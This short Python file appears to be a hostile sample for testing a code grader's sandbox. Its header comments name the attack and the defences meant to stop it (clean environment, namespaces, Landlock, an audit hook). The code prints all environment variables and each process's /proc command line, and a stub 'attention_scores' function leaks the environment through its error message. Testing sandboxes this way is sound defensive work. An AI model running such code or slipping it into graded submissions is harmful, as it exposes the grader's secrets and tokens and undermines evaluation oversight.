# attack: print the environment (the grader's secrets and tokens, if it inherited them) and the command line of every process
# layer: a clean environment + namespaces (its own /proc) + Landlock; the audit hook names reading /proc
import os

print(dict(os.environ))
for pid in os.listdir("/proc") if os.path.isdir("/proc") else ():
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            print(pid, f.read(200))
    except OSError:
        pass


def attention_scores(q, k, scale=None):
    raise NotImplementedError(repr(dict(os.environ)))
